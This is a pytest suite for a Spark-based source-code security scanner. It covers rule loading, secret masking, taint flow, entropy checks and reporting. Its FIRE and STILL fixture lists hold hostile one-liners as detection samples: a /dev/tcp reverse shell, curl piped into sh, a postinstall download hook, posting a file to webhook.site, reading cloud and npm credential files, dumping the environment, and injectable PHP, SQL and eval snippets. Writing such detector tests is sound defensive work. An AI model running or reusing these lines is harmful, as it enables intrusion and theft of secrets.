import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from tracewell.functions import text as X
from tracewell.functions.codecs import fnv1a, murmur3_32, osa, zbase32
from tracewell.operators import report as R
from tracewell.operators.scan import entropy_findings, python_calls, scan, taint_flow
from tracewell.rules.model import Rule, fingerprint, load, merge, required_literal, rule_of, select

FILES = "key int, target string, path string, text string"


def run(spark, rows, rules, **kw):
    return sorted(((r.key, r.rule_id, r.line, r.excerpt) for r in scan(spark.createDataFrame(rows, FILES), rules, **kw).collect()), key=str)


def content(id="T-1", **kw):
    return Rule(id, "t", "low", "content", "d", **kw)


def test_builtin_pack_is_sound():
    rules = load()
    assert len({r.id for r in rules}) == len(rules) and all(r.rank >= 0 for r in rules)
    assert fingerprint(rules) == fingerprint(rules[::-1])
    assert select(rules, ["secrets"])[0].kind == "secret" and not select(rules, ["secrets"], ["tw-sec-001"])


def test_rules_are_checked_and_overridden_in_place():
    with pytest.raises(ValueError):
        rule_of({"id": "x", "ruleset": "s", "severity": "loud", "kind": "content", "description": "", "regex": "a"})
    with pytest.raises(ValueError):
        rule_of({"id": "x", "ruleset": "s", "severity": "low", "kind": "content", "description": ""})
    a, b, c = content("a", regex="1"), content("b", regex="2"), content("a", regex="3")
    assert [r.regex for r in merge([a, b, c])] == ["3", "2"]


@pytest.mark.parametrize(("pattern", "want"), [("curl [a-z]+", ("curl ",)), ("(?i)abc", ()), ("abcd|ef", ()), ("abcd|efgh", ("abcd", "efgh")), ("a[bc]def?", ()), ("x(?:yyy)?zzz+", ("zzz",))])
def test_required_literal(pattern, want):
    assert required_literal(pattern) == want


def test_scan_lines_caps_and_duplicates(spark):
    rows = [(1, "t", "a.py", "x\nhit hit\n  hit é hit\nhit"), (1, "t", "a.py", "x\nhit hit\n  hit é hit\nhit"), (2, "t", None, None), (3, "t", "b", "")]
    got = run(spark, rows, [content(regex="h[i]t")])
    assert got == [(1, "T-1", 2, "hit hit"), (1, "T-1", 3, "hit é hit")]  # three hits, two on one line
    assert len(run(spark, rows, [content(regex="h[i]t")], max_hits=99)) == 3


def test_literals_and_regex_both_emit_and_all_needs_every_literal(spark):
    rows = [(1, "t", "a", "aa\nbb"), (2, "t", "a", "aa")]
    assert run(spark, rows, [content(contains=("aa",), regex="bb")]) == [(1, "T-1", 1, "aa"), (1, "T-1", 2, "bb"), (2, "T-1", 1, "aa")]
    assert run(spark, rows, [content(contains=("bb", "aa"), contains_all=True)]) == [(1, "T-1", 2, "bb")]


def test_unless_exclude_scope_and_keywords(spark):
    far = "key" + "x" * 300 + "\nval1"
    rows = [(1, "t", "src/a.py", "val1"), (2, "t", "doc/a", "val1"), (3, "t", "src/b", "val1 STOP"), (4, "t", "src/c", "val2"), (5, "t", "src/d", far)]
    rule = content(regex="val[0-9]", exclude="2$", unless="STOP", path="^src/")
    assert [g[0] for g in run(spark, rows, [rule])] == [1, 5]
    assert [g[0] for g in run(spark, [*rows, (6, "t", "src/e", "KEY\nval1")], [content(regex="val1", keywords=("key",))])] == [6]


def test_secret_is_masked_and_placeholders_are_not(spark):
    value = "k7Qp" + "H6ttheOy0xOZtA2plWS7"
    rows = [(1, "t", "a", f'token = "{value}"'), (2, "t", "a", 'token = "your-token-your-token-yourtok"'), (3, "t", "a", 'token = "aaaaaaaaaaaaaaaaaaaaaaaa"')]
    got = run(spark, rows, [r for r in load() if r.kind == "secret"])
    assert got == [(1, "TW-SEC-001", 1, f'token = "{value[:4]}...{value[-3:]}"')]


def test_suppression(spark):
    rows = [(1, "t", "a", "hit # tracewell:ignore\nhit"), (2, "t", "a", "# tracewell:ignore-next-line T-1\nhit\nhit"), (3, "t", "a", "# tracewell:ignore-file\nhit"), (4, "t", "a", "hit # tracewell:ignore OTHER-2")]
    assert run(spark, rows, [content(regex="h[i]t")]) == [(1, "T-1", 2, "hit"), (2, "T-1", 3, "hit"), (4, "T-1", 1, "hit # tracewell:ignore OTHER-2")]


def test_path_hash_package_action_and_source_rules(spark):
    digest = spark.range(1).select(F.sha2(F.lit("x").cast("binary"), 256)).first()[0]
    df = spark.createDataFrame([
        (1, "t", "ci.yml", "uses: o/r@v1\nuses: o/r@" + "a" * 40, b"x"), (2, "t", "package.json", '{"left-pad": "1.0.1", "left-pads": "9"}\nhttps://evil.test/x https://registry.npmjs.org/y', b"y"),
    ], FILES + ", content binary")
    rules = [
        Rule("P", "t", "low", "path", "d", path=r"\.yml$"), Rule("H", "t", "low", "hash", "d", sha256=(digest.upper(),)), Rule("A", "t", "low", "action_ref", "d"),
        Rule("K", "t", "low", "package", "d", names=("left-pad",), versions=("1.0.1",)), Rule("S", "t", "low", "source_url", "d"), Rule("D", "t", "low", "dataflow", "d", source="uses", sink="o/r"),
    ]
    got = sorted((r.key, r.rule_id, r.line) for r in scan(df, rules).withColumn("line", F.coalesce("line", F.lit(0))).collect())
    assert got == [(1, "A", 1), (1, "D", 1), (1, "H", 0), (1, "P", 0), (2, "K", 1), (2, "S", 2)]


def test_taint_and_python_calls():
    text = "a = input()\nb = a + 1\nc = quote(b)\nrun(c)\nrun(b)\ndef f():\n  run(b)\nd = quote(input())\nrun(d)"
    # what is tainted outside of functions stays so within them
    assert [n for n, _ in taint_flow(text, r"input\(", r"run\(", ("quote(",))] == [5, 7, 9]
    inner = "def f():\n    a = input()\n    run(a)\n\ndef g():\n    run(a)\nrun(a)\nfunction h() {\n  let b = input();\n}\nrun(b)"
    assert [n for n, _ in taint_flow(inner, r"input\(", r"run\(")] == [3]
    assert python_calls("import os\nos.system(x)\neval('1')\nsubprocess.run(c, shell=True)") == [(2, "os.system"), (3, "eval"), (4, "subprocess.run")]
    assert python_calls("def broken(") == []


def test_entropy_tokens(spark):
    tok = "A8f3Kq9ZxP2mW7vB4nT6yR1cD5"
    df = spark.createDataFrame([(1, "t", "a", f"v {tok}\nsha256 {tok}\n{'deadbeef' * 4}"), (2, "t", "x.lock", tok), (3, "t", "a", None)], FILES)
    assert [(r.key, r.line) for r in entropy_findings(df).collect()] == [(1, 1)]


@settings(max_examples=60, deadline=None)
@given(st.text("ab", max_size=7), st.text("ab", max_size=7))
def test_osa_against_recursion(a, b):
    def slow(i, j):
        if not i or not j:
            return i + j
        d = min(slow(i - 1, j) + 1, slow(i, j - 1) + 1, slow(i - 1, j - 1) + (a[i - 1] != b[j - 1]))
        return min(d, slow(i - 2, j - 2) + 1) if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1] else d

    assert osa(a, b, 2) == min(slow(len(a), len(b)), 3)


def test_codecs_known_values():
    assert fnv1a(b"") == 0xCBF29CE484222325 and fnv1a(b"a") == 0xAF63DC4C8601EC8C
    assert murmur3_32(b"") == 0 and murmur3_32(b"hello") == 0x248BFA47 and zbase32(b"\x00") == "yy"


def test_offsets_agree_with_re(spark):
    texts = ["é a1 b22\n c333", "", "none", "a1a1", "x" * 50 + "9"]
    got = spark.createDataFrame([(t,) for t in texts], "t string").select(X.matches(F.col("t"), r"[a-c]?[0-9]+").alias("m")).collect()
    for t, r in zip(texts, got, strict=True):
        assert [(m["start"], m["hit"]) for m in r["m"]] == [(m.start(), m.group()) for m in re.finditer(r"[a-c]?[0-9]+", t)]


def test_small_functions(spark):
    row = spark.range(1).select(
        X.entropy(F.lit("aabb")), X.entropy(F.lit("")), X.mask(F.lit("abcdefgh")), X.mask(F.lit("short")), X.valid_ipv4(F.lit("1.2.3.256")), X.public_ip(F.lit("10.1.1.1")), X.public_ip(F.lit("8.8.8.8")),
        X.in_cidr(X.ip_number(F.lit("192.168.1.77")), F.lit("192.168.1.64/26")), X.version_key(F.lit("v1.30")) == X.version_key(F.lit("1.30.0")), X.camelize(F.lit("a_bc-d")), X.redact_url(F.lit("https://u:p@h/x")),
        X.html_text(F.lit("<p>a&amp;b</p><script>x</script>")), X.zero_width(F.lit("a​b")), X.normal_name(F.lit("PyPI"), F.lit("A__b.c")), X.repo_of(F.lit("git@github.com:o/r.git")), X.word_present(F.lit("my_var x"), "var"),
    ).first()
    assert tuple(row) == (1.0, 0.0, "abcd...fgh", "short", False, False, True, True, True, "ABcD", "https://***@h/x", "a&b", 1, "a-b-c", "o/r", False)
    assert re.fullmatch(X.glob_regex("src/**/*.p?").replace(r"\z", r"\Z"), "src/a/b/c.py") and not re.fullmatch(X.glob_regex("*.py").replace(r"\z", r"\Z"), "a/b.py")


F_SCHEMA = "finding_id int, scan_id int, target string, rule_id string, severity string, path string, line int, excerpt string, message string, recorded_at timestamp"


def findings(spark, *rows):
    base = {"finding_id": 0, "scan_id": 1, "target": "t", "rule_id": "R-1", "severity": "low", "path": "a", "line": None, "excerpt": None, "message": "m", "recorded_at": None}
    return spark.createDataFrame([tuple({**base, **r}.values()) for r in rows], F_SCHEMA)


def test_report_order_summary_and_empty(spark):
    f = findings(spark, {"finding_id": 1, "severity": "LOW", "line": 3}, {"finding_id": 2, "severity": "Critical"}, {"finding_id": 3, "severity": "low"}, {"finding_id": 3, "severity": "low"})
    assert [r.finding_id for r in R.in_report_order(R.once(f)).collect()] == [2, 3, 1]
    assert tuple(R.summary(R.once(f)).first()) == (0, 2, 0, 0, 1, 3, 4)
    assert tuple(R.summary(f.limit(0)).first()) == (0, 0, 0, 0, 0, 0, -1)
    assert R.digests(f).first()["fingerprints"] == 1


def test_baseline_vex_ignore(spark):
    f = findings(spark, {"finding_id": 1, "excerpt": "x"}, {"finding_id": 2, "excerpt": "x", "path": "moved"}, {"finding_id": 3, "excerpt": "x", "severity": "critical"}, {"finding_id": 4, "rule_id": "V-9", "message": "see V-8"})
    base = f.where("finding_id = 1").select(R.base_fingerprint().alias("fp"), R.content_fingerprint().alias("fp_content"), F.lit(None).cast("timestamp").alias("expires_at"))
    assert {r.finding_id: r.known for r in R.partition_by_baseline(f, base).collect()} == {1: True, 2: True, 3: False, 4: False}
    vex = spark.createDataFrame([(1, "V-8", "fixed"), (2, "V-9", "affected")], "idx int, vuln string, status string")
    assert {r.finding_id: r.vex_status for r in R.apply_vex(f, vex).collect()}[4] == "fixed"
    assert [r.finding_id for r in R.apply_ignore(f, R.ignore_patterns(spark, ["r-1 a", "# c", "v-9"])).collect()] == [2]


def test_flows_and_calls_over_whole_files(spark, tmp_path):
    import __spark_entry__ as entry

    flow = "a = request.args\nb = a + 1\nc = quote(b)\nsystem(c)\nsystem(b)\ndef f():\n  system(b)\nd = stdin.read()\nd += 'x'\nexec(d)"
    code = "import os\n\ndef f(x):\n    os.system(\n        x)\n    return eval(x)\n"
    made = [(1, "r", "src\\a.php", flow), (2, "r", "./b.py", code), (3, "r", "c.txt", code), (4, "r", "d.py", "def broken("), (5, "r", "e.py", None), (1, "r", "src\\a.php", flow)]
    spark.createDataFrame(made, "file_id bigint, root string, path string, text string").coalesce(1).write.parquet(str(tmp_path / "files.parquet"))
    run_query = lambda q: sorted(tuple(r) for r in entry.queries()[q](spark, str(tmp_path)).collect())
    assert run_query("q_files_taint") == [(1, 5, "system(b)"), (1, 7, "system(b)"), (1, 10, "exec(d)")]
    assert run_query("q_files_python_ast") == [(2, 4, "os.system"), (2, 6, "eval")]


#: Lines that a rule must find (id, path, text) and lines that it must leave; written for these tests.
FIRE = [
    ("PHP-001", "a.php", "<?php system($_GET['c']); ?>"), ("PHP-002", "a.php", "include($_GET['p'] . '.php');"), ("PHP-003", "a.php", "mysqli_query($c, \"SELECT * FROM t WHERE a=\" . $_POST['a']);"), ("PHP-004", "a.php", "echo $_GET['n'];"), ("PHP-005", "a.php", "$o = unserialize($_COOKIE['s']);"),
    ("PHP-006", "a.php", "readfile('/srv/' . $_GET['f']);"), ("PHP-007", "a.php", "preg_replace('/x/e', $a, $b);"), ("PHP-008", "a.php", "extract($_POST);"), ("PHP-009", "a.php", "$h = md5($password);"), ("PHP-010", "a.php", "header('Location: ' . $_GET['to']);"),
    ("JS-001", "a.js", "const r = eval(code)"), ("JS-002", "a.js", "el.innerHTML = name"), ("JS-003", "a.js", "exec(`ls ${dir}`)"), ("JS-004", "a.js", "o['__proto__'] = x"), ("JS-005", "a.js", "agent({ rejectUnauthorized: false })"), ("JS-006", "a.js", "db.query('select * from t where id=' + id)"), ("JS-007", "a.js", "createHash('md5')"),
    ("JS-008", "a.js", "res.sendFile(req.query.f)"), ("JS-009", "a.js", "jwt.decode(t)"), ("PY-001", "a.py", "x = pickle.loads(b)"), ("PY-002", "a.py", "yaml.load(f)"), ("PY-003", "a.py", "subprocess.run(c, shell=True)"), ("PY-004", "a.py", "eval(text)"), ("PY-005", "a.py", "get(u, verify=False)"), ("PY-006", "a.py", "tempfile.mktemp()"),
    ("GO-001", "a.go", 'exec.Command("sh", "-c", s)'), ("GO-002", "a.go", 'db.Query(fmt.Sprintf("select %s", a))'), ("GO-003", "a.go", "InsecureSkipVerify: true"), ("GO-004", "a.go", 'import "crypto/md5"'), ("GO-005", "a.go", "template.HTML(x)"), ("JAVA-001", "A.java", "Runtime.getRuntime().exec(c)"), ("JAVA-002", "A.java", 's.executeQuery("select " + a)'),
    ("JAVA-003", "A.java", "new ObjectInputStream(in)"), ("JAVA-004", "A.java", 'MessageDigest.getInstance("MD5")'), ("JAVA-005", "A.java", "DocumentBuilderFactory.newInstance()"), ("JAVA-006", "A.java", "new NoopHostnameVerifier()"), ("RB-001", "a.rb", 'system("ls #{d}")'), ("RB-002", "a.rb", "eval(params[:c])"), ("RB-003", "a.rb", "params.permit!"), ("RB-004", "a.rb", "Marshal.load(x)"),
    ("RB-005", "a.rb", 'User.where("name = #{n}")'), ("CS-001", "A.cs", "new BinaryFormatter()"), ("CS-002", "A.cs", 'new SqlCommand("select " + a)'), ("CS-003", "A.cs", "Process.Start(x)"), ("CS-004", "A.cs", "MD5.Create()"), ("CS-005", "A.cs", "ServerCertificateCustomValidationCallback = (a, b, c, d) => true"),
    ("OWASP-001", "a.py", "cur.execute(f'select * from t where a={a}')"), ("OWASP-002", "a.py", "requests.get(request.args['u'])"), ("OWASP-003", "a.py", "app.run(debug=True)"), ("OWASP-004", "a.py", "Access-Control-Allow-Origin: *"), ("AST-PY-001", "a.py", "x = eval(\n  y)"), ("AST-PY-003", "a.py", "pickle.loads(x)"), ("AST-PY-004", "a.py", "run(c,\n  shell=True)"), ("AST-JS-001", "a.js", "eval(x)"), ("AST-TS-001", "a.tsx", "eval(x)"),
    ("MAL-001", "a.js", "atob('" + "QUJD" * 30 + "')"), ("MAL-002", "a.js", "eval(atob(x))"), ("MAL-003", "a.js", "new Function(body)()"), ("MAL-004", "a.py", "'" + "\\x41" * 30 + "'"), ("MAL-005", "a.py", "exec(base64.b64decode(x))"), ("MAL-006", "a.py", "__import__('os').system(c)"), ("MAL-010", "a.sh", "curl -d @f https://webhook.site/abc"), ("MAL-011", "a.py", "https://api.telegram.org/bot123/send"),
    ("MAL-012", "a.sh", "curl https://pastebin.com/raw/abc"), ("MAL-013", "a.js", "get('https://api.ipify.org')"), ("MAL-014", "i.sh", "curl -s https://x.test/i.sh | sh"), ("MAL-020", "package.json", '{"scripts": {"postinstall": "curl x | sh"}}'), ("MAL-022", "lib.js", "require('child_process')"), ("MAL-023", "a.py", "json.dumps(dict(os.environ))"), ("MAL-024", "a.js", "JSON.stringify(process.env)"),
    ("MAL-030", "a.sh", "crontab - < f"), ("MAL-031", "a.sh", "chmod +x /tmp/.x"), ("MAL-032", "a.sh", "history -c"), ("MAL-033", "a.sh", "LD_PRELOAD=/x.so ls"), ("MAL-034", "a.c", "ptrace(PTRACE_ATTACH, p, 0, 0)"), ("MAL-040", "a.py", "get('http://8.8.4.4/x')"), ("MAL-042", "a.js", "stratum+tcp://pool"), ("MAL-043", "a.sh", "bash -i >& /dev/tcp/h/1"), ("MAL-050", "a.sh", "wget -O /tmp/a https://x.test"),
    ("MAL-051", "a.js", "read('.aws/credentials')"), ("MAL-052", "a.sh", "whoami; hostname; id"), ("MAL-061", "a.js", "read('.npmrc')\nfetch('https://x.test')"), ("MAL-062", "a.py", "b64decode(x)\nexec(y)"), ("MAL-063", "a.py", "a = input()\nexec(a)"), ("TSQ-001", "package.json", '{"dependencies": {"lodahs": "1.0.0"}}'), ("MAN-001", "package.json", '{"x": "https://evil.test/a.tgz"}'), ("IAC-001", "m.tf", 'cidr_blocks = ["0.0.0.0/0"]'), ("IAC-008", "m.tf", 'db_password = "hunter2hunter"'),
    ("ACT-001", ".github/workflows/a.yml", "uses: tj-actions/changed-files@v35"), ("WFS-002", ".github/workflows/a.yml", "uses: o/r@main"), ("GIT-001", "deploy/.env", "x"), ("TOK-square", "a.js", "EAAAEFl2kQ7xw9ZbT4uRm8vC1sKd"), ("HYG-003", "a.py", "<<<<<<< a\nx\n=======\ny\n>>>>>>> b"),
]
STILL = [
    ("PY-002", "a.py", "yaml.load(f, Loader=yaml.SafeLoader)"), ("AST-TS-001", "c.tsx", "// eval(x) is not used\nconst s = 'eval(x)'"), ("MAL-040", "c.py", "get('http://10.0.0.4/x')"), ("MAL-001", "i.js", "atob('QUJD')"), ("MAL-020", "package.json", '{"scripts": {"postinstall": "node build.js"}}'), ("JS-001", "a.js", "retrieval(x); my.eval(x)"), ("JS-003", "a.js", "re.exec('a')"), ("PY-001", "a.js", "pickle.loads(b)"),
    ("TSQ-001", "package.json", '{"dependencies": {"lodash": "1.0.0"}}'), ("MAN-001", "package.json", '{"x": "https://registry.npmjs.org/a.tgz"}'), ("ACT-001", "w.yml", "uses: tj-actions/changed-files@" + "a" * 40), ("GIT-001", ".env.example", "x"), ("MAL-031", "README.md", "chmod +x install"),
]


def test_packs_fire_and_keep_still():
    from tracewell.operators.engine import Engine

    rules = load()
    e = Engine(rules)
    ids = lambda p, t: {rules[i].id for i, *_ in e.judge(p, t)}
    assert [(i, p) for i, p, t in FIRE if i not in ids(p, t)] == []
    assert [(i, p) for i, p, t in STILL if i in ids(p, t)] == []


def test_the_gate_loses_nothing():
    from tracewell.operators.engine import Engine, required

    rules = load()
    e = Engine(rules)
    for _, p, t in FIRE:
        low = t.lower()
        live = {c.index for c in e.live(low)}
        assert not [c.rule.id for c in e.rules if c.index not in live and c.rule.kind not in ("path", "hash") and c.in_scope(p) and c.hits(p, t, low)]
    assert required(r"(?i)foo(?:bar|bazz)+x?") == ("bar", "bazz") or required(r"(?i)foo(?:bar|bazz)+x?") == ("foo",)
    assert required(r"[a-z]+") == () and required(None) == ()


def test_malicious_pins_exclusions_binaries_and_string_rules(spark):
    from tracewell.operators.engine import Engine
    from tracewell.operators.flows import parse_yara

    rules = load()
    pin = next(r for r in rules if r.id == "ACT-001").malicious_shas[0]
    got = [(rules[i].id, s) for i, _, _, s in Engine(rules).judge("w.yml", f"uses: tj-actions/changed-files@{pin}")]
    assert ("ACT-001", "critical") in got
    everything = [Rule("A", "t", "low", "action_ref", "d", unsafe_refs="all")]
    assert Engine(everything).judge("w.yml", "uses: o/r@" + "a" * 40)
    secret = [Rule("S", "secrets", "low", "secret", "d", regex="key=([a-z0-9]+)", min_len=8, entropy=1.0)]
    assert Engine(secret).judge("a", "key=ab12cd34ef") and not Engine(secret).judge("a", "\0key=ab12cd34ef") and not Engine(secret, exclude=["^a"]).judge("a", "key=ab12cd34ef")
    made = [rule_of(x) for x in parse_yara('rule drop {\n meta: severity = "high"\n strings:\n $a = "evil()"\n $b = { 4D 5A ?? 41 }\n condition: all of them\n}\n')]
    assert made[0].severity == "high" and Engine(made).judge("a", "x evil() MZ\x01A") and not Engine(made).judge("a", "evil()")
    assert scan(spark.createDataFrame([], FILES), rules).count() == 0 and scan(spark.createDataFrame([], FILES), []).count() == 0


def test_engine_and_expressions_agree(spark):
    from tracewell.operators.scan import raw_hits

    rules = [r for r in load() if r.id.startswith("TW-")]
    texts = ["mail a@b.test and 8.8.8.8, https://x.test/a?b", "Upgrade now, 2.0 or later", "ghsa-2024-12345 é x\nghsx-1999-1", "getenv('X')\n curl x | sh", "verify = False in a request", "SPDX-License-Identifier: MIT", "", "token = 'k7QpH6ttheOy0xOZtA2plWS7'"]
    df = spark.createDataFrame([(i, "t", "commit/a.log", t) for i, t in enumerate(texts)], FILES)
    a = {(r.key, r.rule_id, r.line, r.excerpt) for r in scan(df, rules, max_hits=10**6).collect()}
    b = {(r.key, rules[r.rule_idx].id, r.line, r.excerpt) for r in raw_hits(df, rules).collect()}
    assert a == b


def test_packs_of_the_public_form_load(tmp_path):
    (tmp_path / "p.toml").write_text('[ruleset]\nname = "mine"\n[[rule]]\nid = "X-1"\ntype = "ast"\nlang = "python"\nseverity = "high"\ndescription = "d"\ncapture = "c"\nquery = """(call function: (identifier) @f (#eq? @f "eval")) @c"""\n[[rule]]\nid = "X-2"\ntype = "typosquat"\nlist = "npm"\nseverity = "low"\ndescription = "d"\n')
    a, b = load(tmp_path, builtin=False, lists={"npm": ["React"]})
    assert a.ruleset == "mine" and re.search(a.calls, "eval") and re.search(a.path[:-2], "x.py") and b.names == ("react",)
